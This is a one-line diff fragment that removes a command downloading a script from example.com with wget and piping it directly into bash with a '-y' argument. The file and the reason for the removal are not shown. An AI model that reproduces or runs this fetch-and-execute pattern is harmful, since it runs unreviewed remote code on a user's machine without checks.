@@ -1,1 +1,0 @@
-wget https://example.com/x -O - | bash -s -- -y
